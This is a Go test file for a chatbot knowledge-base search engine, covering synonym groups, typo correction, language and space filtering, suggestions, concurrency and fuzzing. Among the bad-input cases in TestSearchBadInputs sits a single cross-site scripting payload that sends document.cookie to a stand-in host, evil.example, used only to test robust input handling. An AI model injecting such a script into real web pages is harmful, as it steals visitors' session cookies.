package engine

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/bascule/bascule"
)

// testKB is a small bot that exercises languages, spaces, disabled items and nested,
// language-specific matching groups.
func testKB() *bascule.KnowledgeBase {
	return &bascule.KnowledgeBase{
		Format: bascule.KnowledgeFormat,
		Bot:    bascule.Bot{ID: bascule.SampleBotID, Name: "test", Languages: []string{"fr", "en"}, Spaces: []string{"Defaut", "Pro"}},
		Groups: []bascule.MatchingGroup{
			{Name: "order", Language: "fr", Terms: []string{"commande", "achat", "{parcel}"}},
			{Name: "parcel", Terms: []string{"colis", "paquet"}}, // every language
			{Name: "parcel", Language: "en", Terms: []string{"parcel", "package"}},
			{Name: "order", Language: "en", Terms: []string{"order", "purchase"}},
			{Name: "password", Language: "fr", Terms: []string{"mot de passe", "mdp", "identifiant"}},
			{Name: "card", Language: "fr", Terms: []string{"carte", "carte bancaire"}},
			{Name: "gift", Language: "fr", Terms: []string{"carte cadeau", "bon d'achat"}},
			{Name: "empty", Language: "fr", Terms: []string{"le la"}},
		},
		Knowledge: []bascule.Knowledge{
			{ID: 1, Language: "fr", Enabled: true, Question: "Où en est ma commande ?", Formulations: []string{"suivre ma {order}", "où est mon {order}"}, Answer: "a"},
			{ID: 2, Language: "fr", Enabled: true, Question: "Comment annuler ma commande ?", Formulations: []string{"annuler ma {order}", "annulation de {order}"}, Answer: "a"},
			{ID: 3, Language: "fr", Enabled: true, Question: "J'ai oublié mon mot de passe", Formulations: []string{"{password} oublié", "réinitialiser mon {password}"}, Answer: "a"},
			{ID: 4, Language: "fr", Enabled: true, Question: "Payer par carte bancaire", Formulations: []string{"payer par {card}"}, Answer: "a"},
			{ID: 5, Language: "fr", Enabled: true, Question: "Utiliser une carte cadeau", Formulations: []string{"utiliser un {gift}", "payer avec un {gift}"}, Answer: "a"},
			{ID: 6, Language: "fr", Enabled: false, Question: "Horaires des magasins", Formulations: []string{"horaires"}, Answer: "a"},
			{ID: 7, Language: "fr", Enabled: true, Space: "Pro", Question: "Devis pour les professionnels", Formulations: []string{"devis"}, Answer: "a"},
			{ID: 8, Language: "fr", Enabled: true, Question: "Le {empty} groupe vide", Formulations: []string{"{empty} {unknown} garantie"}, Answer: "a"},
			{ID: 101, Language: "en", Enabled: true, Question: "Where is my order?", Formulations: []string{"track my {order}", "where is my {parcel}"}, Answer: "a"},
			{ID: 102, Language: "en", Enabled: true, Question: "How do I cancel my order?", Formulations: []string{"cancel my {order}"}, Answer: "a"},
		},
	}
}

func ids(ms []Match) []int64 {
	out := []int64{}
	for _, m := range ms {
		out = append(out, m.Knowledge.ID)
	}
	return out
}

func TestSearch(t *testing.T) {
	ix := NewIndex(testKB())
	tests := []struct {
		name, in, lang, space string
		n                     int
		first                 int64 // 0: no match expected
		never                 []int64
	}{
		{"question as written", "Où en est ma commande ?", "fr", "Defaut", 5, 1, nil},
		{"synonym fills the slot", "où est mon achat", "fr", "Defaut", 5, 1, nil},
		{"nested group: a parcel is an order", "suivre mon colis", "fr", "Defaut", 5, 1, nil},
		{"multi-word term", "j'ai perdu mon mot de passe", "fr", "Defaut", 5, 3, nil},
		{"sms spelling meets the group", "mdp oublie", "fr", "Defaut", 5, 3, nil},
		{"longest phrase wins", "payer avec une carte cadeau", "fr", "Defaut", 5, 5, nil},
		{"shorter phrase alone", "payer par carte", "fr", "Defaut", 5, 4, nil},
		{"typo in a known word", "annuller ma commande", "fr", "Defaut", 5, 2, nil},
		{"transposed letters", "annluer ma commande", "fr", "Defaut", 5, 2, nil},
		{"disabled items are not searchable", "horaires", "fr", "Defaut", 5, 0, []int64{6}},
		{"item of another space is hidden", "devis", "fr", "Defaut", 5, 0, []int64{7}},
		{"item of the asked space is found", "devis", "fr", "Pro", 5, 7, nil},
		{"unknown space sees common items", "devis commande", "fr", "Nowhere", 5, 1, []int64{7}},
		{"language filter", "where is my order", "fr", "Defaut", 5, 0, []int64{101, 102}},
		{"english", "where is my package", "en", "Defaut", 5, 101, []int64{1}},
		{"language without items", "commande", "de", "Defaut", 5, 0, nil},
		{"n of zero", "commande", "fr", "Defaut", 0, 0, nil},
		{"empty group and unknown group slots are ignored", "garantie", "fr", "Defaut", 5, 8, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ms := ix.Search(tt.in, tt.lang, tt.space, tt.n)
			got := ids(ms)
			if tt.first == 0 && len(ms) > 0 && slices.ContainsFunc(tt.never, func(id int64) bool { return id == got[0] }) {
				t.Errorf("Search(%q) = %v", tt.in, got)
			}
			if tt.first != 0 && (len(got) == 0 || got[0] != tt.first) {
				t.Errorf("Search(%q) = %v, want %d first", tt.in, got, tt.first)
			}
			for _, id := range tt.never {
				if slices.Contains(got, id) {
					t.Errorf("Search(%q) = %v, must not hold %d", tt.in, got, id)
				}
			}
			if len(ms) > max(tt.n, 0) {
				t.Errorf("Search(%q, n=%d) returned %d matches", tt.in, tt.n, len(ms))
			}
			checkMatches(t, ms)
		})
	}
}

// checkMatches asserts the invariants of any Search result: each item once, confidences in
// [0, 1], best first.
func checkMatches(t *testing.T, ms []Match) {
	t.Helper()
	seen := map[int64]bool{}
	for i, m := range ms {
		if seen[m.Knowledge.ID] {
			t.Errorf("item %d appears twice", m.Knowledge.ID)
		}
		seen[m.Knowledge.ID] = true
		if m.Confidence < 0 || m.Confidence > 1 || m.Score <= 0 {
			t.Errorf("match %d: score %v, confidence %v", m.Knowledge.ID, m.Score, m.Confidence)
		}
		if i > 0 && m.Confidence > ms[i-1].Confidence {
			t.Errorf("matches not in order of confidence: %v", ms)
		}
	}
}

func TestSearchConfidence(t *testing.T) {
	ix := NewIndex(testKB())
	full := ix.Search("annuler ma commande", "fr", "", 1)
	partial := ix.Search("annuler", "fr", "", 1)
	padded := ix.Search("annuler ma commande de canapé pour ma tante qui déménage", "fr", "", 1)
	if len(full) == 0 || full[0].Confidence < 0.99 {
		t.Fatalf("a formulation said word for word: %+v, want confidence 1", full)
	}
	if len(partial) == 0 || partial[0].Confidence >= full[0].Confidence {
		t.Errorf("half a formulation (%v) must be less sure than all of it (%v)", partial, full)
	}
	if len(padded) == 0 || padded[0].Knowledge.ID != 2 || padded[0].Confidence >= full[0].Confidence {
		t.Errorf("unknown words around the question (%v) must lower confidence", padded)
	}
}

func TestGroupLanguage(t *testing.T) {
	ix := NewIndex(testKB())
	// "parcel" has an English definition, which wins over the language-less one: "colis" is
	// not an English parcel, while in French it is, through the language-less group.
	if ms := ix.Search("where is my colis", "en", "", 5); len(ms) > 0 && ms[0].Confidence >= 0.9 {
		t.Errorf("English search found the language-less group's term: %+v", ms)
	}
	if ms := ix.Search("où est mon paquet", "fr", "", 5); len(ms) == 0 || ms[0].Knowledge.ID != 1 {
		t.Errorf("French search missed the language-less group nested in {order}: %v", ids(ms))
	}
}

func TestGroupExpansion(t *testing.T) {
	kb := testKB()
	kb.Groups = append(kb.Groups,
		bascule.MatchingGroup{Name: "a", Terms: []string{"{b}", "xray {c} zulu"}},
		bascule.MatchingGroup{Name: "b", Terms: []string{"bravo", "{c}"}},
		bascule.MatchingGroup{Name: "c", Terms: []string{"charlie", "delta echo"}},
		bascule.MatchingGroup{Name: "loop", Terms: []string{"{loop2}", "lima"}},
		bascule.MatchingGroup{Name: "loop2", Terms: []string{"{loop}", "mike"}},
	)
	li := buildLang("fr", nil, kb.Groups)
	names := map[int32]string{}
	for k, v := range li.terms {
		names[v] = k
	}
	got := map[string][]string{}
	for _, p := range li.phrases {
		var words []string
		for _, t := range p.terms {
			words = append(words, names[t])
		}
		for _, c := range p.concepts {
			got[names[c]] = append(got[names[c]], strings.Join(words, " "))
		}
	}
	for _, v := range got {
		slices.Sort(v)
	}
	tests := []struct {
		group string
		want  []string // French stems
	}{
		{"{a}", []string{"bravo", "charl", "delt echo", "xrai charl zulu", "xrai delt echo zulu"}},
		{"{b}", []string{"bravo", "charl", "delt echo"}},
		{"{c}", []string{"charl", "delt echo"}},
		{"{loop}", []string{"lim", "mik"}}, // a cycle stops instead of looping
		{"{order}", []string{"achat", "coli", "command", "paquet"}},
		{"{empty}", nil}, // only stop words: never matches
	}
	for _, tt := range tests {
		if !slices.Equal(got[tt.group], tt.want) {
			t.Errorf("%s expands to %q, want %q", tt.group, got[tt.group], tt.want)
		}
	}
}

func TestSplitRefs(t *testing.T) {
	tests := []struct {
		in   string
		want []piece
	}{
		{"", nil},
		{"plain", []piece{{text: "plain"}}},
		{"où est ma {order} ?", []piece{{text: "où est ma "}, {ref: "order"}, {text: " ?"}}},
		{"{a}{b}", []piece{{ref: "a"}, {ref: "b"}}},
		{"{not a name} {ok}", []piece{{text: "{not a name} "}, {ref: "ok"}}},
		{"open { brace", []piece{{text: "open { brace"}}},
	}
	for _, tt := range tests {
		if got := splitRefs(tt.in); !slices.Equal(got, tt.want) {
			t.Errorf("splitRefs(%q) = %+v, want %+v", tt.in, got, tt.want)
		}
	}
}

func TestWithin1(t *testing.T) {
	tests := []struct {
		a, b string
		want bool
	}{
		{"commande", "commande", true},
		{"comande", "commande", true},   // missing letter
		{"commmande", "commande", true}, // extra letter
		{"commende", "commande", true},  // changed letter
		{"comamnde", "commande", true},  // swapped letters
		{"comandde", "commande", false}, // two edits
		{"commandes", "commande", true},
		{"abc", "xyz", false},
		{"", "a", true},
	}
	for _, tt := range tests {
		if got := within1([]byte(tt.a), tt.b); got != tt.want {
			t.Errorf("within1(%q, %q) = %v, want %v", tt.a, tt.b, got, tt.want)
		}
	}
}

func TestSuggest(t *testing.T) {
	ix := NewIndex(testKB())
	tests := []struct {
		in, space string
		want      []int64
	}{
		{"annuler ma comm", "", []int64{2, 1}},
		{"mot de pa", "", []int64{3}},
		{"payer avec un bon d'ach", "", []int64{5}},
		{"dev", "Pro", []int64{7}},
		{"dev", "", []int64{}},
		{"", "", []int64{}},
		{"annluer ", "", []int64{2}}, // a finished word with a typo
	}
	for _, tt := range tests {
		got := []int64{}
		for _, k := range ix.Suggest(tt.in, "fr", tt.space, 3) {
			got = append(got, k.ID)
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("Suggest(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}

// TestSearchBadInputs: whatever a visitor sends, Search answers quickly and sanely.
func TestSearchBadInputs(t *testing.T) {
	ix := NewIndex(testKB())
	tests := []struct {
		name, in string
		matches  bool
	}{
		{"empty", "", false},
		{"whitespace only", " \t\n ", false},
		{"only stop words", "le la de du et", false},
		{"only punctuation", "?!?!... ;;", false},
		{"emoji", "📦📦 😡", false},
		{"html and script", "<script>document.location='https://evil.example/'+document.cookie</script>", false},
		{"invalid utf-8", "\xff\xfe\xfd commande \xc3", true},
		{"10,000 characters", strings.Repeat("annuler ma commande ", 500), true},
		{"one huge word", strings.Repeat("x", 10000), false},
		{"braces", "{order} {password}", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ms := ix.Search(tt.in, "fr", "", 5)
			if got := len(ms) > 0; got != tt.matches {
				t.Errorf("Search(%.40q) = %v, want matches: %v", tt.in, ids(ms), tt.matches)
			}
			checkMatches(t, ms)
			ix.Suggest(tt.in, "fr", "", 5)
		})
	}
}

func TestSearchConcurrent(t *testing.T) {
	ix := NewIndex(testKB())
	var wg sync.WaitGroup
	for g := range 8 {
		wg.Go(func() {
			for i := range 200 {
				q := fmt.Sprintf("annuler ma commande %d", g*1000+i)
				if ms := ix.Search(q, "fr", "", 3); len(ms) == 0 || ms[0].Knowledge.ID != 2 {
					t.Errorf("Search(%q) = %v", q, ids(ms))
					return
				}
			}
		})
	}
	wg.Wait()
}

func TestIndexCopiesKnowledge(t *testing.T) {
	kb := testKB()
	ix := NewIndex(kb)
	kb.Knowledge[1].Question = "changed"
	kb.Knowledge[1].Formulations[0] = "changed"
	ms := ix.Search("annuler ma commande", "fr", "", 1)
	if len(ms) == 0 || ms[0].Knowledge.Question != "Comment annuler ma commande ?" || ms[0].Knowledge.Formulations[0] != "annuler ma {order}" {
		t.Errorf("the index shares the caller's knowledge: %+v", ms)
	}
	if NewIndex(nil).Search("x", "fr", "", 1) != nil {
		t.Error("an index of nothing found something")
	}
}

func FuzzSearch(f *testing.F) {
	ix := NewIndex(testKB())
	for _, s := range []string{"", "annuler ma commande", "mot de pa", "\xff\xfe", "{order}", "&amp;&#0;", strings.Repeat("a ", 3000)} {
		f.Add(s, "fr", 5)
	}
	f.Fuzz(func(t *testing.T, in, lang string, n int) {
		ms := ix.Search(in, lang, "", n%50)
		checkMatches(t, ms)
		if len(ms) > max(n%50, 0) {
			t.Errorf("Search(n=%d) returned %d", n%50, len(ms))
		}
		Decide(ms)
		ix.Suggest(in, lang, "", n%50)
	})
}

// TestInnerReading: the words of a group may also be read apart, as a formulation may write
// them, but that reading weighs less than the group's.
func TestInnerReading(t *testing.T) {
	kb := &bascule.KnowledgeBase{
		Format: bascule.KnowledgeFormat,
		Bot:    bascule.Bot{ID: bascule.SampleBotID, Name: "test", Languages: []string{"fr", "en"}},
		Groups: []bascule.MatchingGroup{
			{Name: "late", Language: "fr", Terms: []string{"pas reçu", "en retard"}},
			{Name: "receive", Language: "fr", Terms: []string{"reçu", "recevoir"}},
			{Name: "order", Language: "fr", Terms: []string{"commande", "colis"}},
			{Name: "relay", Language: "en", Terms: []string{"pickup point", "relay point"}},
			{Name: "collect", Language: "en", Terms: []string{"pickup", "collect"}},
			{Name: "loyalty", Language: "en", Terms: []string{"points", "point"}},
			{Name: "return", Language: "en", Terms: []string{"send back", "bring back"}},
		},
		Knowledge: []bascule.Knowledge{
			{ID: 1, Language: "fr", Enabled: true, Question: "Ma commande est en retard", Formulations: []string{"{order} {late}", "{late}"}, Answer: "a"},
			{ID: 2, Language: "fr", Enabled: true, Question: "E-mail de confirmation", Formulations: []string{"pas {receive} de confirmation"}, Answer: "a"},
			{ID: 5, Language: "fr", Enabled: true, Question: "Confirmer ma commande", Formulations: []string{"confirmation de {order}", "confirmation"}, Answer: "a"},
			{ID: 3, Language: "en", Enabled: true, Question: "Where are your relay points?", Formulations: []string{"{relay}"}, Answer: "a"},
			{ID: 4, Language: "en", Enabled: true, Question: "How do I collect points?", Formulations: []string{"{collect} {loyalty}"}, Answer: "a"},
			{ID: 6, Language: "en", Enabled: true, Question: "Returns", Formulations: []string{"{return} an item"}, Answer: "a"},
		},
	}
	ix := NewIndex(kb)
	tests := []struct {
		in, lang      string
		first, offers int64 // offers: an item Decide must at least offer to click
	}{
		// Read apart, as item 2 writes it: not the first reading ("pas reçu" is a delay),
		// but one worth offering.
		{"pas reçu de confirmation", "fr", 1, 2},
		{"commande pas reçue", "fr", 1, 1},
		// The group, although another item holds both its words apart.
		{"pickup point", "en", 3, 3},
		// A phrase read across the words put inside it.
		{"can i send an item back", "en", 6, 6},
	}
	for _, tt := range tests {
		ms := ix.Search(tt.in, tt.lang, "", 5)
		if len(ms) == 0 || ms[0].Knowledge.ID != tt.first {
			t.Errorf("Search(%q) = %v, want %d first", tt.in, ids(ms), tt.first)
		}
		if !slices.ContainsFunc(ms, func(m Match) bool { return m.Knowledge.ID == tt.offers && m.Confidence >= RewordAt }) {
			t.Errorf("Search(%q) = %v, want %d at confidence %.2f or more", tt.in, ids(ms), tt.offers, RewordAt)
		}
		checkMatches(t, ms)
	}
}

func TestTypoCorrection(t *testing.T) {
	kb := testKB()
	kb.Knowledge = append(kb.Knowledge, bascule.Knowledge{ID: 9, Language: "fr", Enabled: true, Question: "Patientez un moment", Formulations: []string{"attendre un moment"}, Answer: "a"})
	li := NewIndex(kb).langs["fr"]
	names := map[int32]string{-1: "(unknown)", dropWord: "(dropped)"}
	for k, v := range li.terms {
		names[v] = k
	}
	tests := []struct{ in, want string }{
		{"annuller", "annul"},     // a letter too many
		{"anulerr", "(unknown)"},  // two edits
		{"coment", "(dropped)"},   // "comment", a stop word, wins over the knowledge's "moment"
		{"bonjours", "(dropped)"}, // a misspelt greeting is still a greeting
		{"devic", "(unknown)"},    // five letters: too short to guess ("devis"?)
		{"momnet", "moment"},
	}
	for _, tt := range tests {
		st := li.pool.Get().(*state)
		if got := names[li.lookup(st, []byte(tt.in))]; got != tt.want {
			t.Errorf("lookup(%q) = %s, want %s", tt.in, got, tt.want)
		}
		li.pool.Put(st)
	}
}

// TestModifiersAreNoTopic: a question that shares only a negation or an adverb of time with the
// knowledge is about something else.
func TestModifiersAreNoTopic(t *testing.T) {
	kb := testKB()
	// "toujours pas" is a delay: a question that says it shares a topic with the delay items,
	// not with a formulation that holds a bare "pas".
	kb.Groups = append(kb.Groups, bascule.MatchingGroup{Name: "late", Language: "fr", Terms: []string{"toujours pas"}})
	kb.Knowledge = append(kb.Knowledge,
		bascule.Knowledge{ID: 9, Language: "fr", Enabled: true, Question: "Ma commande n'est pas arrivée", Formulations: []string{"{order} pas arrivée", "pas livré"}, Answer: "a"},
		bascule.Knowledge{ID: 103, Language: "en", Enabled: true, Question: "My order has not arrived yet", Formulations: []string{"{order} not arrived", "still not delivered"}, Answer: "a"})
	ix := NewIndex(kb)
	tests := []struct {
		in, lang string
		want     Verdict
	}{
		{"mon ordinateur ne démarre toujours pas", "fr", Misunderstood},
		{"my computer still does not start", "en", Misunderstood},
		{"ma commande n'est pas arrivée", "fr", Understood},
		{"my order has still not arrived", "en", Understood},
	}
	for _, tt := range tests {
		ms := ix.Search(tt.in, tt.lang, "", 5)
		if v, _ := Decide(ms); v != tt.want {
			t.Errorf("Search(%q) = %v: %s, want %s", tt.in, ids(ms), v, tt.want)
		}
		checkMatches(t, ms)
	}
}
